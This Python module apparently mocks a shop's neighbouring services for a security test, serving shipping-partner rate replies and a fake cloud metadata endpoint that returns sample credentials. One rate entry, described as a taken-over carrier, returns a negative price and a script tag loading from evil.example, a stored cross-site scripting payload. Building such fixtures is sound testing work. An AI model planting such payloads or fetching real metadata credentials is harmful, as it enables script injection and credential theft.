"""What lives next to the shop, on a second loopback port: the shipping partner and the
metadata service of the host. Told apart by the Host header."""

import json

from .httpd import Response

METADATA = {"role": "shop-node", "access_key": "sample-access-key",
            "secret_key": "sample-not-a-real-key"}
RATES = {
    "/rates/tern": {"amount_cents": 590, "note": "2 to 4 days"},
    "/rates/heron": {"amount_cents": 1290, "note": "next day"},
    # This carrier's account at the partner has been taken over.
    "/rates/zephyr": {"amount_cents": -99900, "note": "<script src=//evil.example/x></script>"},
}


def reply(value, status=200):
    """A JSON reply."""
    return Response(status, json.dumps(value).encode(), "application/json")


def handle(request):
    """Answer one request to the neighbour port."""
    host = request.headers.get("host", "").partition(":")[0]
    if host == "partner.example":
        if request.method == "GET" and request.path in RATES:
            return reply(RATES[request.path])
        if request.method == "POST" and request.path == "/hooks/orders":
            return reply({"received": True})
    elif request.path == "/latest/meta-data/iam/credentials":
        return reply(METADATA)
    return reply({"error": "not found"}, 404)
